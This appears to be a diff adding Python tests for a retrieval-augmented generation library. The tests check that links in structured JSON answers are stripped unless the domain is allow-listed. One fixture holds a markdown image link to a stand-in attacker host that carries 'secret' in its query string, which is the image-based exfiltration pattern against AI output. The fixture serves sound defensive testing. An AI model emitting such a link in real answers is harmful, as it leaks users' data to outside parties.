@@ -1,8 +1,11 @@
 from __future__ import annotations
 
+import json
+
 import pytest
 
 from rag.errors import InvalidInput, InvalidStructuredOutput
+from rag.sanitize import REMOVED_LINK, strip_links
 from rag.structured import check_format, parse
 
 SCHEMA = {"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]}
@@ -36,3 +39,39 @@ def test_parse_validates_against_the_schema() -> None:
     assert parse('{"a": 1}', {"type": "json_object"}) == {"a": 1}
     with pytest.raises(InvalidStructuredOutput):
         parse("[1]", {"type": "json_object"})
+
+
+def _no_links(text: str) -> str:
+    return strip_links(text, ["docs.example.com"])
+
+
+def test_every_string_of_a_json_answer_is_cleaned() -> None:
+    fmt = {"type": "json_object"}
+    answer = {
+        "steps": [
+            "Open ![x](https://evil.example/c?d=secret)",
+            "See [docs](https://docs.example.com/a)",
+        ],
+        "links": {"https://evil.example/k": {"n": 1, "ok": True, "none": None}},
+    }
+    cleaned = parse(json.dumps(answer), fmt, _no_links)
+    assert cleaned == {
+        "steps": ["Open x", "See [docs](https://docs.example.com/a)"],
+        "links": {REMOVED_LINK: {"n": 1, "ok": True, "none": None}},
+    }
+    untouched = {"steps": ["Open the console"], "n": 2}
+    assert parse(json.dumps(untouched), fmt, _no_links) == untouched
+
+
+def test_a_cleaned_answer_must_still_fit_the_schema() -> None:
+    url_schema = {
+        "type": "object",
+        "properties": {"url": {"type": "string", "pattern": "^https://"}},
+        "required": ["url"],
+    }
+    fmt = {"type": "json_schema", "json_schema": {"name": "link", "schema": url_schema}}
+    assert parse('{"url": "https://docs.example.com/x"}', fmt, _no_links) == {
+        "url": "https://docs.example.com/x"
+    }
+    with pytest.raises(InvalidStructuredOutput, match="allow-list"):
+        parse('{"url": "https://evil.example/x"}', fmt, _no_links)
